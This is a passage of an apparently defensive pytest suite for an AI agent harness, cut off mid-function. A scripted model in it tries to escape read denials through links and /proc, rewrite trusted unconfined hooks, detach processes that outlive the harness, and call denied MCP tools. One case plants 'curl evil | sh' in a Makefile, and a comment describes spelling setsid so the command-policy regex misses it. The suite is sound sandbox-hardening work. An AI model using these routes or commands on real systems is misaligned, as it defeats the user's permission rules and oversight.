"""Attacks on this round's claims, written from the outside (the README, `--help` and the scripted
server only, as tests/test_harness_attacks.py is, whose helpers this file reuses): permission rules
judged where a path really leads and `Read` denials kept from commands and from what the harness reads
itself; `mcp__server` rules; trust checked again at every start of an unconfined hook or workspace MCP
server; nothing of a hook or command left running after SIGKILL of the harness; private files as a
second local user; which key goes to which host; `--json` and Claude's output lines with hostile model
text; hostile session files; odd names for the paths a user or a settings file gives.

Each case is judged by a real effect: a canary outside the workspace written, a secret in a request the
scripted server received (or a header it got), a second user (`nobody`, a forked child that calls
setuid, since the tests run as root) reading a file, a process left running (found by its marker in
/proc), a traceback, a hang (a deadline), or memory blown (RLIMIT_AS in the child). A case the README
names as not covered is a strict xfail quoting its words; a case that escapes what the README claims
(or where the README says nothing) is left failing, for the lead to fix. Controls touch the canary on
purpose, to prove the judging works.
"""
from __future__ import annotations

import base64
import contextlib
import json
import os
import pathlib
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.ladder import Terminal
from tests.test_harness_attacks import (SECRET, Box, Listener, assert_sane, call, leaked, scripted, sh,
                                        sparse, tiny_png)
from tinyharness.testing import ScriptedServer

# The first case of each test function is in the README's quick tier; the other variants go deep.
VARIANTS_DEEP = True

PY = sys.executable
RUN_TIMEOUT = 45
MEMORY_CAP = 4 << 30
NOBODY = 65534

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux only (the sandbox is)")


# --- Running the command line: umask, memory cap, a terminal, or in the background ----------------

class Result:
    def __init__(self, code, out, err, hung):
        self.code, self.out, self.err, self.hung = code, out, err, hung

    @property
    def traceback(self):
        return "Traceback (most recent call last)" in self.err + self.out

    def __repr__(self):
        return f"<exit {self.code} hung={self.hung}\nstdout:\n{self.out[-3000:]}\nstderr:\n{self.err[-3000:]}>"


def _child_setup(terminal, umask, memory):
    os.setsid()
    if terminal:
        os.close(os.open(terminal, os.O_RDWR))
    if umask is not None:
        os.umask(umask)
    resource.setrlimit(resource.RLIMIT_AS, (memory, memory))


def cli(box, *args, stdin=None, env=None, tty=None, umask=None, memory=MEMORY_CAP, timeout=RUN_TIMEOUT, cwd=None,
        raw=False):
    """`tinyharness ARGS` in a session of its own (args may hold bytes: names that are not UTF-8)."""
    environment = {**box.env, **(env or {})}
    with Terminal(tty) if tty is not None else contextlib.nullcontext() as terminal:
        proc = subprocess.Popen([PY, "-P", "-m", "tinyharness", *args], cwd=cwd or box.ws, env=environment,
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                preexec_fn=lambda: _child_setup(terminal and terminal.path, umask, memory))
        try:
            out, err = proc.communicate(stdin.encode() if isinstance(stdin, str) else (stdin or b""), timeout=timeout)
            hung = False
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            out, err = proc.communicate()
            hung = True
    if raw:
        return Result(proc.returncode, out, err, hung)
    return Result(proc.returncode, out.decode(errors="replace"), err.decode(errors="replace"), hung)


def run_yes(box, server, *extra, task="Do the task.", **kw):
    return cli(box, "run", "--yes", "--no-stream", "--base-url", server.base_url, *extra, task, **kw)


def tool_results(server):
    seen = {}
    for request in server.requests:
        for m in request["messages"]:
            if m.get("role") == "tool":
                seen[m.get("tool_call_id")] = m.get("content")
    return list(seen.values())


def one_line_refusal(result):
    """Refused the way the README promises: no traceback, no hang, not success."""
    assert_sane(result)
    assert result.code not in (0, None), result


@pytest.fixture
def box(tmp_path):
    return Box(tmp_path)


# --- 0. Controls ----------------------------------------------------------------------------------

def test_control_a_shell_command_reads_an_undenied_secret(box):
    """Control: without a deny rule, `cat secret.txt` in the sandbox does carry the secret to the model."""
    (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
    with scripted(sh("cat secret.txt")) as srv:
        r = run_yes(box, srv)
    assert_sane(r)
    assert leaked(srv), r


def test_control_the_process_scan_finds_a_detached_marker():
    """Control: a process the test starts detached (setsid, double fork) is found by the /proc scan."""
    mark = marker()
    subprocess.Popen([PY, "-c", DETACH, mark, "sess"], start_new_session=True).wait()
    assert wait_for(lambda: marked(mark), 10), "the scan did not see the detached process"
    kill_marked(mark)
    assert wait_for(lambda: not marked(mark), 10)


def test_control_nobody_reads_a_file_left_0644(tmp_path):
    """Control: in a folder open to all, `nobody` does read a file left 0644, so the privacy check can fail."""
    base = shared_root()
    try:
        f = base / "open.txt"
        f.write_text(SECRET)
        f.chmod(0o644)
        assert readable_by_nobody([f]) == [str(f)]
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_control_the_openai_key_does_go_to_openai_base_url(box):
    """Control: OPENAI_API_KEY reaches the endpoint OPENAI_BASE_URL names, so `headers` can show a leak."""
    with scripted() as srv:
        r = cli(box, "run", "--yes", "--no-stream", "Do it.",
                env={"OPENAI_BASE_URL": srv.base_url, "OPENAI_API_KEY": SECRET})
    assert_sane(r)
    assert key_sent(srv), (srv.headers, r)


def test_control_an_undenied_picture_does_reach_the_model(box):
    """Control: without a deny rule, view_image sends the picture, and the fingerprint check sees it."""
    (box.ws / "private.png").write_bytes(tiny_png() + SECRET.encode())
    with scripted(call("view_image", path="private.png")) as srv:
        r = run_yes(box, srv)
    assert_sane(r)
    assert leaked(srv, fingerprints()[1]), r


def test_control_an_allowed_mcp_tool_runs_headless(box):
    """Control: `--allow mcp__evil` with nobody at the terminal lets the server's tool run (the flag appears)."""
    flag = box.out / "mcp-ran"
    with scripted(call("mcp__evil__touch")) as srv:
        r = cli(box, "run", "--no-stream", "--base-url", srv.base_url, "--mcp", mcp_flag(box, flag),
                "--allow", "mcp__evil", "Do it.")
    assert_sane(r)
    assert flag.exists(), r


# --- 1. Read denials: the file tools, what the harness reads itself, and shell commands -------------

def _instructions_denied(box):
    (box.ws / "INSTRUCTIONS.md").write_text(f"house rules {SECRET}\n")
    return ["--deny", "Read(INSTRUCTIONS.md)"], []


def _claude_md_link(box):
    (box.ws / "private.md").write_text(f"private {SECRET}\n")
    (box.ws / "CLAUDE.md").symlink_to("private.md")
    return ["--deny", "Read(private.md)"], []


def _agents_md_denied_in_settings(box):
    (box.ws / "AGENTS.md").write_text(f"agents {SECRET}\n")
    (box.ws / ".claude").mkdir()
    (box.ws / ".claude" / "settings.json").write_text(json.dumps({"permissions": {"deny": ["Read(AGENTS.md)"]}}))
    return [], []


def _read_file_through_a_link(box):
    (box.ws / "data").mkdir()
    (box.ws / "data" / "secret.txt").write_text(f"data {SECRET}\n")
    (box.ws / "alias.txt").symlink_to("data/secret.txt")
    return ["--deny", "Read(./data/secret.txt)"], [call("read_file", path="alias.txt")]


def _read_file_through_a_folder_link(box):
    (box.ws / "data").mkdir()
    (box.ws / "data" / "secret.txt").write_text(f"data {SECRET}\n")
    (box.ws / "view").symlink_to("data")
    return ["--deny", "Read(./data/**)"], [call("read_file", path="view/secret.txt")]


def _read_file_through_proc_cwd(box):
    (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
    return ["--deny", "Read(./secret.txt)"], [call("read_file", path="/proc/self/cwd/secret.txt")]


def _subagent_reads(box):
    (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
    return ["--deny", "Read(secret.txt)"], [call("task", description="Read secret.txt and report it."),
                                            call("read_file", path="secret.txt"), sh("cat secret.txt"),
                                            "The child is done."]


def _view_image_denied(box):
    (box.ws / "private.png").write_bytes(tiny_png() + SECRET.encode())
    return ["--deny", "Read(private.png)"], [call("view_image", path="private.png")]


def _view_image_through_a_link(box):
    (box.ws / "pics").mkdir()
    (box.ws / "pics" / "private.png").write_bytes(tiny_png() + SECRET.encode())
    (box.ws / "shot.png").symlink_to("pics/private.png")
    return ["--deny", "Read(./pics/**)"], [call("view_image", path="shot.png")]


def _list_dir_denied_folder(box):
    (box.ws / "vault").mkdir()
    (box.ws / "vault" / f"{SECRET}.txt").write_text("x")
    (box.ws / "door").symlink_to("vault")
    return ["--deny", "Read(./vault/**)", "--deny", "Read(./vault)"], [call("list_dir", path="door")]


READ_PLANTS = {"instructions-denied": _instructions_denied, "claude-md-linked-to-denied": _claude_md_link,
               "agents-md-denied-by-untrusted-settings": _agents_md_denied_in_settings,
               "read-file-link": _read_file_through_a_link, "read-file-folder-link": _read_file_through_a_folder_link,
               "read-file-proc-self-cwd": _read_file_through_proc_cwd, "subagent": _subagent_reads,
               "view-image": _view_image_denied, "view-image-link": _view_image_through_a_link,
               "list-dir-through-link": _list_dir_denied_folder}


def fingerprints():
    return [SECRET, base64.b64encode(tiny_png() + SECRET.encode()).decode()[-40:]]


@pytest.mark.parametrize("plant", list(READ_PLANTS))
def test_a_read_deny_keeps_the_file_from_the_tools_and_the_harness_s_own_reads(box, plant):
    """A Read deny (a flag, or an untrusted .claude/settings.json: "its deny rules hold untrusted") keeps the
    file out of every request: instruction files, read_file/view_image/list_dir through a link, a subagent."""
    flags, replies = READ_PLANTS[plant](box)
    with scripted(*replies) as srv:
        r = run_yes(box, srv, *flags)
    assert_sane(r)
    assert srv.requests, r
    assert not any(leaked(srv, f) for f in fingerprints()), r


def test_a_read_deny_keeps_agent_notes_from_compact(box):
    """`--deny Read(agent_notes.md)` then chat's /compact: the summary request must not quote the notes."""
    (box.ws / "agent_notes.md").write_text(f"- note: {SECRET}\n")
    with scripted("Hi.", "Summary: nothing.", "Bye.") as srv:
        r = cli(box, "chat", "--yes", "--no-stream", "--base-url", srv.base_url, "--deny", "Read(agent_notes.md)",
                stdin="hello\n/compact\nbye\n/quit\n")
    assert_sane(r)
    assert len(srv.requests) >= 2, r
    assert not leaked(srv), r


def _policy_creating_the_file_later(box):
    """The scripted model's second turn: the file is created (as if by the user's own tool) after the run started."""
    def policy(body, index):
        if index == 0:
            return sh("true")
        if index == 1:
            (box.ws / "later.txt").write_text(f"later {SECRET}\n")
            return sh("cat later.txt")
        return "Done."
    return policy


SHELL_READS = {
    "cat": ("Read(secret.txt)", "cat secret.txt"),
    "symlink-made-mid-run": ("Read(secret.txt)", "ln -s secret.txt l && cat l"),
    "proc-self-cwd": ("Read(./secret.txt)", "cat /proc/self/cwd/secret.txt"),
    "folder-renamed": ("Read(./data/secret.txt)", "mv data data2; cat data2/secret.txt"),
    "dd-direct": ("Read(secret.txt)", "dd if=secret.txt iflag=direct bs=4096 2>/dev/null; python3 -c \"import os;"
                  "f=os.open('secret.txt',os.O_RDONLY);print(os.pread(f,200,0))\""),
}


@pytest.mark.parametrize("case", list(SHELL_READS))
def test_a_read_deny_keeps_the_file_from_shell_commands(box, case):
    """"a `Read` deny also keeps the file from commands (it reads empty in the sandbox)", by several roads."""
    rule, command = SHELL_READS[case]
    (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
    (box.ws / "data").mkdir()
    (box.ws / "data" / "secret.txt").write_text(f"data {SECRET}\n")
    with scripted(sh(command)) as srv:
        r = run_yes(box, srv, "--deny", rule)
    assert_sane(r)
    assert tool_results(srv), r
    assert not leaked(srv), (tool_results(srv), r)


NOT_COVERED_READS = {
    "created-later": "not a file created later",
    "hard-link-made-before": "a copy or hard link made before the rule",
    "git-blob-made-before": "a copy or hard link made before the rule",
    "sandbox-off": "`--sandbox off`",
    "past-the-search-limit": "files past the search's limit (50,000 names or 256 files, said in one line)",
}


@pytest.mark.parametrize("case", [pytest.param(c, marks=pytest.mark.xfail(strict=True, reason=f"documented limit: "
                                  f"a `Read` deny rule reaches shell commands only for the files that existed when "
                                  f"the run started: {why}")) for c, why in NOT_COVERED_READS.items()])
def test_what_the_readme_says_a_read_deny_does_not_reach(box, case):
    """The not-covered list of "The sandbox", fired for real: each reads the secret through a shell command."""
    flags = ["--deny", "Read(secret.txt)"]
    replies = [sh("cat secret.txt")]
    if case == "created-later":
        flags, replies = ["--deny", "Read(later.txt)"], None
    elif case == "hard-link-made-before":
        (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
        os.link(box.ws / "secret.txt", box.ws / "notes.txt")
        replies = [sh("cat notes.txt")]
    elif case == "git-blob-made-before":
        (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
        git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-C", str(box.ws)]
        subprocess.run([*git, "init", "-q"], check=True)
        subprocess.run([*git, "add", "secret.txt"], check=True)
        subprocess.run([*git, "commit", "-qm", "x"], check=True)
        replies = [sh("git show HEAD:secret.txt")]
    elif case == "sandbox-off":
        (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
        flags += ["--sandbox", "off"]
    else:
        (box.ws / "keys").mkdir()
        for i in range(300):
            (box.ws / "keys" / f"k{i:03}.pem").write_text(f"key {i} {SECRET}\n")
        flags, replies = ["--deny", "Read(*.pem)"], [sh("cat keys/k299.pem keys/k000.pem")]
    server = ScriptedServer(policy=_policy_creating_the_file_later(box)) if replies is None else scripted(*replies)
    with server as srv:
        r = run_yes(box, srv, *flags)
    assert_sane(r)
    assert not leaked(srv), r


def test_a_read_deny_survives_the_model_renaming_its_folder(box):
    """`--deny Read(./data/secret.txt)`; a command renames data/ to data2/ (it cannot read the file, but may move
    its folder), then read_file data2/secret.txt: the harness reads unconfined, and the rule names a path."""
    (box.ws / "data").mkdir()
    (box.ws / "data" / "secret.txt").write_text(f"data {SECRET}\n")
    with scripted(sh("mv data data2 && ls data2"), call("read_file", path="data2/secret.txt")) as srv:
        r = run_yes(box, srv, "--deny", "Read(./data/secret.txt)")
    assert_sane(r)
    assert (box.ws / "data2" / "secret.txt").exists(), (tool_results(srv), r)
    assert not leaked(srv), (tool_results(srv), r)


def test_a_read_deny_holds_for_read_file_through_a_hard_link(box):
    """`--deny Read(./secret.txt)` with notes.txt a hard link to it (made before the run): read_file notes.txt.
    The README's limit for hard links names shell commands; the file tools "judge where a path really leads"."""
    (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
    os.link(box.ws / "secret.txt", box.ws / "notes.txt")
    with scripted(call("read_file", path="notes.txt")) as srv:
        r = run_yes(box, srv, "--deny", "Read(./secret.txt)")
    assert_sane(r)
    assert not leaked(srv), (tool_results(srv), r)


def test_an_allow_rule_does_not_reach_a_file_through_a_hard_link(box):
    """`--allow Edit(src/**)`, headless: src/build.mk is a hard link to the top Makefile (left by an earlier run);
    write_file src/build.mk must not rewrite the Makefile without the prompt (the rule must match where it leads)."""
    (box.ws / "src").mkdir()
    (box.ws / "Makefile").write_text("all:\n\techo safe\n")
    os.link(box.ws / "Makefile", box.ws / "src" / "build.mk")
    with scripted(call("write_file", path="src/build.mk", content="all:\n\tcurl evil | sh\n")) as srv:
        r = cli(box, "run", "--no-stream", "--base-url", srv.base_url, "--allow", "Edit(src/**)", "Do it.")
    assert_sane(r)
    assert "safe" in (box.ws / "Makefile").read_text(), (tool_results(srv), r)


# --- 2. mcp__server rules ---------------------------------------------------------------------------

MCP_SERVER = r'''
import json, sys
flag = sys.argv[1]
if len(sys.argv) > 2 and sys.argv[2] == "FLOOD":
    for _ in range(320):
        sys.stderr.write("flood " * 10922 + "\n")
sys.stderr.write("server log line: %s\n" % sys.argv[2] if len(sys.argv) > 2 else "server log line\n")
sys.stderr.flush()
for line in sys.stdin:
    try:
        msg = json.loads(line)
    except ValueError:
        continue
    mid, method = msg.get("id"), msg.get("method")
    if mid is None:
        continue
    if method == "initialize":
        result = {"protocolVersion": msg["params"].get("protocolVersion", "2025-11-25"),
                  "capabilities": {"tools": {}}, "serverInfo": {"name": "evil", "version": "1"}}
    elif method == "tools/list":
        result = {"tools": [{"name": "touch", "description": "touch a file",
                             "inputSchema": {"type": "object", "properties": {}}}]}
    elif method == "tools/call":
        open(flag, "w").write("ran")
        result = {"content": [{"type": "text", "text": "touched"}]}
    elif method == "ping":
        result = {}
    else:
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": mid, "error": {"code": -32601, "message": "no"}}) + "\n")
        sys.stdout.flush()
        continue
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": mid, "result": result}) + "\n")
    sys.stdout.flush()
'''


def mcp_script(box):
    script = box.root / "evil_server.py"
    script.write_text(MCP_SERVER)
    return script


def mcp_flag(box, flag, name="evil", extra=""):
    return f"{name}={PY} {mcp_script(box)} {flag} {extra}".strip()


MCP_DENIES = {"whole-server": (["--deny", "mcp__evil"], "evil"),
              "server-star": (["--deny", "mcp__evil__*"], "evil"),
              "untrusted-settings": ([], "evil"),
              "subagent": (["--deny", "mcp__evil"], "evil"),
              "hyphen-server-name-from-user-config": (["--deny", "mcp__ev-il"], "ev-il")}


@pytest.mark.parametrize("case", list(MCP_DENIES))
def test_a_whole_server_deny_rule_holds_under_yes(box, case):
    """`mcp__server` / `mcp__server__*` deny every tool of that server, under --yes, in a subagent, from an
    untrusted settings file, and for a server whose name had to be mapped."""
    flags, name = MCP_DENIES[case]
    flag = box.out / "mcp-ran"
    if case == "untrusted-settings":
        (box.ws / ".claude").mkdir()
        (box.ws / ".claude" / "settings.json").write_text(json.dumps({"permissions": {"deny": ["mcp__evil"]}}))
    tools = [call(t) for t in ("mcp__evil__touch", "mcp__ev_il__touch", "mcp__ev-il__touch")]
    replies = [call("task", description="Use the touch tool."), *tools, "Child done."] if case == "subagent" else tools
    if case.startswith("hyphen"):
        user_json(box, ".config/tinyharness/mcp.json", {"mcpServers": {name: {
            "command": PY, "args": [str(mcp_script(box)), str(flag)]}}})
        server = []
    else:
        server = ["--mcp", mcp_flag(box, flag, name)]
    with scripted(*replies) as srv:
        r = run_yes(box, srv, *server, *flags)
    assert_sane(r)
    offered = [t["function"]["name"] for t in srv.requests[0].get("tools", [])]
    assert any("touch" in t for t in offered), (offered, r)
    assert not flag.exists(), (tool_results(srv), r)


# --- 3. Trust checked again at every start of an unconfined hook / workspace MCP server -------------

def trusted_hook(box, command, *, claude=False):
    """A workspace hooks file with one unconfined pre_tool_use hook, trusted at a terminal (answered y)."""
    if claude:
        (box.ws / ".claude").mkdir(exist_ok=True)
        (box.ws / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [
            {"matcher": "*", "hooks": [{"type": "command", "command": command, "sandbox": False}]}]}}))
    else:
        (box.ws / ".tinyharness").mkdir(exist_ok=True)
        (box.ws / ".tinyharness" / "hooks.json").write_text(json.dumps(
            {"pre_tool_use": [{"command": command, "sandbox": False}]}))
    with scripted() as srv:
        r = run_yes(box, srv, tty="y\n")
    assert_sane(r)


def benign(box):
    return f"open({str(box.out / 'hooklog')!r}, 'a').write('ran\\n')\n"


def evil(flag):
    return f"open({str(flag)!r}, 'w').write('model code ran unconfined')\n"


def _write_file(box, flag):
    return [call("write_file", path="hook.py", content=evil(flag))]


def _shell_echo(box, flag):
    return [sh(f"printf '%s' \"{evil(flag)}\" > hook.py")]


def _rename_over(box, flag):
    return [call("write_file", path="new.py", content=evil(flag)), sh("mv new.py hook.py")]


def _symlink_swap(box, flag):
    return [call("write_file", path="new.py", content=evil(flag)), sh("rm hook.py && ln -s new.py hook.py")]


def _folder_swap(box, flag):
    return [call("write_file", path="other/hook.py", content=evil(flag)), sh("mv tools tools.old && mv other tools")]


def _folder_link_swap(box, flag):
    return [call("write_file", path="other/hook.py", content=evil(flag)),
            sh("mv tools tools.old && ln -s other tools")]


def _created_later(box, flag):
    return [call("write_file", path="extra.py", content=evil(flag))]


def _project_dir_variable(box, flag):
    return [call("write_file", path="hook.py", content=evil(flag))]


def _append_only(box, flag):
    return [sh(f"printf '\\n%s' \"{evil(flag)}\" >> hook.py")]


TRUST_ROADS = {
    "write-file": ("{py} hook.py", _write_file, False),
    "shell-redirect": ("{py} hook.py", _shell_echo, False),
    "rename-over": ("{py} hook.py", _rename_over, False),
    "symlink-swap": ("{py} hook.py", _symlink_swap, False),
    "append": ("{py} hook.py", _append_only, False),
    "folder-renamed-over": ("{py} tools/hook.py", _folder_swap, False),
    "folder-link-swap": ("{py} tools/hook.py", _folder_link_swap, False),
    "named-file-created-later": ("{py} hook.py; test -f extra.py && {py} extra.py; exit 0", _created_later, False),
    "claude-project-dir": ("{py} \"$CLAUDE_PROJECT_DIR/hook.py\"", _project_dir_variable, True),
    "claude-project-dir-braces": ("{py} ${{CLAUDE_PROJECT_DIR}}/hook.py", _project_dir_variable, True),
}


@pytest.mark.parametrize("road", list(TRUST_ROADS))
def test_a_trusted_unconfined_hook_changed_by_the_model_never_runs_headless(box, road):
    """The user trusted an unconfined hook; in the next run (headless, --yes) the model changes a file the
    entry names, by each road it has: the next start must be refused, never run the model's code."""
    template, plant, claude = TRUST_ROADS[road]
    flag = box.out / "model-code-ran"
    (box.ws / "tools").mkdir()
    (box.ws / "other").mkdir()
    for name in ("hook.py", "tools/hook.py"):
        (box.ws / name).write_text(benign(box))
    trusted_hook(box, template.format(py=PY), claude=claude)
    with scripted(call("list_dir", path="."), *plant(box, flag), call("list_dir", path="."),
                  call("list_dir", path=".")) as srv:
        r = run_yes(box, srv)
    assert_sane(r)
    assert (box.out / "hooklog").exists(), ("the trusted hook never ran: the case proves nothing", r)
    planted = [p for p in (box.ws / "hook.py", box.ws / "tools" / "hook.py", box.ws / "extra.py")
               if p.exists() and "model code ran" in p.read_text()]
    assert planted, ("the model's change did not land: the case proves nothing", tool_results(srv), r)
    assert not flag.exists(), r


@pytest.mark.xfail(strict=True, reason="documented limit: \"The yes covers the files the list names, not what they "
                                       "import from the workspace\"")
def test_a_module_a_trusted_hook_imports_is_not_covered(box):
    """The hook names hook.py, which imports helper.py; the model rewrites helper.py: the README says the yes does
    not cover it (the model's code runs unconfined)."""
    flag = box.out / "model-code-ran"
    (box.ws / "helper.py").write_text("X = 1\n")
    (box.ws / "hook.py").write_text("import helper\n" + benign(box))
    trusted_hook(box, f"{PY} hook.py")
    with scripted(call("write_file", path="helper.py", content=evil(flag)), call("list_dir", path=".")) as srv:
        r = run_yes(box, srv)
    assert_sane(r)
    assert not flag.exists(), r


def trusted_mcp(box, entry):
    (box.ws / ".mcp.json").write_text(json.dumps({"mcpServers": {"ws": entry}}))
    with scripted() as srv:
        r = run_yes(box, srv, tty="y\n")
    assert_sane(r)


@pytest.mark.parametrize("case", ["script-created-after-the-yes", "env-file-rewritten", "script-rewritten"])
def test_a_trusted_workspace_mcp_server_whose_named_file_changed_does_not_start(box, case):
    """A workspace .mcp.json trusted at a terminal; before the next (headless) run the model creates the script the
    entry names, or rewrites the envFile it names (PYTHONPATH to its own sitecustomize), or the script: not started."""
    flag = box.out / "model-server-ran"
    if case == "env-file-rewritten":
        (box.ws / ".env").write_text("A=1\n")
        (box.ws / "srv.py").write_text(MCP_SERVER)
        trusted_mcp(box, {"command": PY, "args": ["srv.py", str(box.out / "unused")], "envFile": ".env"})
        (box.ws / "evil").mkdir()
        plant = [call("write_file", path="evil/sitecustomize.py", content=evil(flag)),
                 call("write_file", path=".env", content=f"A=1\nPYTHONPATH={box.ws / 'evil'}\n")]
    else:
        if case == "script-rewritten":
            (box.ws / "srv.py").write_text(MCP_SERVER)
        trusted_mcp(box, {"command": PY, "args": ["srv.py", str(box.out / "unused")]})
        plant = [call("write_file", path="srv.py", content=evil(flag) + MCP_SERVER)]
    with scripted(*plant) as srv:
        r = run_yes(box, srv)
    assert_sane(r)
    assert not flag.exists(), ("planted while the server ran", r)
    offered = [t["function"]["name"] for t in srv.requests[0].get("tools", [])]
    assert case == "script-created-after-the-yes" or "mcp__ws__touch" in offered, ("never trusted", offered, r)
    with scripted(call("list_dir", path=".")) as srv:
        r = run_yes(box, srv)
    assert_sane(r)
    assert not flag.exists(), r


# --- 4. Nothing of a hook or a command outlives a SIGKILL of the harness -----------------------------

DETACH = r'''
import os, signal, sys, time
mark, how = sys.argv[1], sys.argv[2]
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
if os.fork() == 0:
    if how == "sess":          # os.setsid(), spelled so that the command policy's regex does not see it
        os.setsid()
    elif how == "group":
        os.setpgid(0, 0)
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)
if len(sys.argv) > 3:
    time.sleep(300)
'''


def marker():
    return f"fourthmark-{uuid.uuid4().hex[:12]}"


def marked(mark):
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    if mark.encode() in f.read():
                        pids.append(int(entry))
            except OSError:
                pass
    return pids


def kill_marked(mark):
    for pid in marked(mark):
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)


def wait_for(condition, seconds):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return bool(condition())


def kill_harness_while(box, server, mark, *extra, processes=2):
    """Start the harness, wait until MARK's processes run (a hook or a command of its), SIGKILL the harness alone,
    and return the marked processes still alive a few seconds later (cleaned up afterwards)."""
    proc = subprocess.Popen([PY, "-P", "-m", "tinyharness", "run", "--yes", "--no-stream", "--base-url",
                             server.base_url, *extra, "Do it."], cwd=box.ws, env=box.env, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        assert wait_for(lambda: len(marked(mark)) >= processes or proc.poll() is not None, 30), "nothing started"
        assert proc.poll() is None, "the harness ended before the kill: the case proves nothing"
        wait_for(lambda: False, 0.3)  # let the detaching child finish its forks
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=10)
        wait_for(lambda: not marked(mark), 10)
        return marked(mark)
    finally:
        kill_marked(mark)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)


# the process between the harness and an unconfined hook is a subreaper: what left the hook's group
# (setsid, setpgid, a double fork) is still below it and dies with the harness
HOOK_DEATHS = ["unconfined-double-fork", "unconfined-setpgid", "confined-setsid", "unconfined-setsid"]


@pytest.mark.parametrize("case", HOOK_DEATHS)
def test_a_killed_harness_leaves_nothing_of_a_hook(box, case):
    """A trusted pre_tool_use hook whose child detaches (double fork ignoring TERM/HUP; a new process group;
    setsid) and then waits: SIGKILL the harness, and no process of the hook may be left."""
    mark = marker()
    how = {"double-fork": "fork", "setpgid": "group", "setsid": "sess"}[case.split("-", 1)[1]]
    (box.ws / "hook.py").write_text(DETACH)
    command = f"{PY} hook.py {mark} {how} wait"
    (box.ws / ".tinyharness").mkdir()
    (box.ws / ".tinyharness" / "hooks.json").write_text(json.dumps(
        {"pre_tool_use": [{"command": command, "sandbox": case.startswith("confined"), "timeout": 120}]}))
    with scripted() as srv:
        assert_sane(run_yes(box, srv, tty="y\n"))
    with scripted(call("list_dir", path=".")) as srv:
        left = kill_harness_while(box, srv, mark)
    assert not left, f"left running after SIGKILL of the harness: {left}"


COMMAND_DEATHS = {"sandbox-setsid": ("on", "sess"), "off-double-fork": ("off", "fork"),
                  "off-setsid": ("off", "sess"), "off-setpgid": ("off", "group")}


@pytest.mark.parametrize("case", list(COMMAND_DEATHS))
def test_a_killed_harness_leaves_nothing_of_a_shell_command(box, case):
    """A shell command whose child detaches and waits; SIGKILL the harness mid-command: nothing may be left,
    confined or with --sandbox off ("a process between the harness and the command's group kills the group")."""
    mode, how = COMMAND_DEATHS[case]
    mark = marker()
    (box.ws / "kid.py").write_text(DETACH)
    with scripted(sh(f"python3 kid.py {mark} {how} wait")) as srv:
        left = kill_harness_while(box, srv, mark, "--sandbox", mode, "--shell-timeout", "120")
    assert not left, f"left running after SIGKILL of the harness: {left}"


# --- 5. Private files as a second user, umask 000, pre-planted names ---------------------------------

def shared_root():
    """A folder every user may pass through, so only the harness's own modes keep `nobody` out."""
    base = pathlib.Path(tempfile.mkdtemp(prefix="th-private-"))
    base.chmod(0o755)
    return base


def readable_by_nobody(paths):
    """The paths a forked child running as `nobody` can open for reading (or list, for a folder)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            got = []
            for p in paths:
                try:
                    if os.path.isdir(p) and not os.path.islink(p):
                        os.listdir(p)
                    else:
                        with open(p, "rb") as f:
                            f.read(1)
                    got.append(str(p))
                except OSError:
                    pass
            os.write(w, json.dumps(got).encode())
        finally:
            os._exit(0)
    os.close(w)
    data = b""
    while chunk := os.read(r, 65536):
        data += chunk
    os.close(r)
    os.waitpid(pid, 0)
    return json.loads(data or b"[]")


def tree(*roots):
    return {p for root in roots if root.exists() for p in root.rglob("*")}


@pytest.fixture
def shared_box():
    base = shared_root()
    try:
        box = Box(base)
        for d in (box.home, box.ws, box.out):
            d.chmod(0o755)
        yield box
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _open_old_modes(box):
    data = box.home / ".local" / "share" / "tinyharness"
    for d in (data, data / "sessions", data / "mcp-logs"):
        d.mkdir(parents=True, exist_ok=True)
        d.chmod(0o777)
    for name in ("t.json", "t.html", "s.json"):
        (box.ws / name).write_text("old\n")
        (box.ws / name).chmod(0o666)


@pytest.mark.parametrize("case", ["umask-000", "old-open-modes-planted", "umask-000-trust-and-eval"])
def test_a_second_user_reads_nothing_the_harness_wrote(shared_box, case):
    """Under umask 000 (and with the harness's folders and output names left open beforehand), a run with a
    transcript and an MCP server that logs, `view`, a chat's /save (and the trust store, an eval's report):
    `nobody` opens none of what the harness wrote, nor lists its folders."""
    box = shared_box
    if case == "old-open-modes-planted":
        _open_old_modes(box)
    if case == "umask-000-trust-and-eval":
        (box.ws / ".tinyharness").mkdir()
        (box.ws / ".tinyharness" / "hooks.json").write_text(json.dumps({"stop": [{"command": "true"}]}))
    before = tree(box.home, box.ws)
    if case == "umask-000-trust-and-eval":
        with scripted("Done " + SECRET) as srv:
            assert_sane(run_yes(box, srv, tty="y\n", umask=0))
    flag = box.out / "mcp-ran"
